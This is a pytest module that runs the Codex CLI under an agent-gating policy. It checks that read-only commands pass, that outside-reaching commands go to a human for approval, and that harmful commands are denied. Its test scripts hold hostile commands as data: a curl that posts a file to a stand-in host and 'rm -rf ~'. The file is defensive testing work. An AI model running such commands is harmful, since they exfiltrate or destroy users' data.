"""The real Codex CLI under *Follow the agent*: what looks is its own, the rest is asked about or denied.

Same version, model and connection as in test_codex.
"""

from __future__ import annotations

import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.clients import codex as codex_client
from tests.clients.codex import Codex, await_run_end, shell
from tests.support import gating
from tests.support.server import Server
from toolcards.core.policy.language.presets import PRESETS

pytestmark = [pytest.mark.clients, pytest.mark.timeout(1200)]
SCRIPTS = {
    "project": [shell("mkdir -p out && touch out/ran.txt")],
    "looks": [shell("git status; ls")],
    "outside": [shell("curl -s -d @ran.txt http://example.invalid/")],
    "harm": [shell("rm -rf ~ && touch ran.txt")],
}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with Server(tmp_path_factory.mktemp("server")) as running:
        gating.activate(running, dict(PRESETS["follow-the-agent"].document))
        yield running


@pytest.fixture
def codex(server: Server, monkeypatch: pytest.MonkeyPatch) -> Iterator[Codex]:
    """A session in a folder that can be a project: the suite's own may be below /dev."""
    monkeypatch.setattr(codex_client, "SCRIPTS", codex_client.SCRIPTS | SCRIPTS)
    with tempfile.TemporaryDirectory(dir="/tmp", prefix="toolcards-") as folder:
        created = Codex(Path(folder), server.base, server.key)
        yield created
        created.stop()


def test_what_only_looks_is_left_to_codex(server: Server, codex: Codex) -> None:
    card = await_run_end(server, codex.start("looks"))["call_0"]
    assert (card["approval"], card["decision"]["by"]["kind"]) == (None, "default")


@pytest.mark.parametrize(("scenario", "vote"), [("outside", "approve"), ("outside", "deny"), ("project", "deny")])
def test_what_leaves_the_project_or_may_do_so_is_asked_about(
    server: Server, codex: Codex, scenario: str, vote: str
) -> None:
    """The folder of a command is not in Codex's hooks, so that what changes files may be anywhere."""
    codex.start(scenario)
    run = codex.session()
    gating.vote(server, run, vote, reason="not there")
    codex.finish()
    card = gating.calls(server, run)["call_0"]
    assert (card["decision"]["rule"], card["approval"]["by"]["kind"]) == ("ask-outside", "human")
    assert ("A person declined: not there" in codex.model.results[0]) == (vote == "deny")


def test_what_an_agent_never_needs_to_do_is_denied_with_a_sentence(server: Server, codex: Codex) -> None:
    card = await_run_end(server, codex.start("harm"))["call_0"]
    assert (card["state"], card["approval"]) == ("output-denied", None) and not codex.ran
    assert card["decision"]["reason"] in codex.model.results[0]
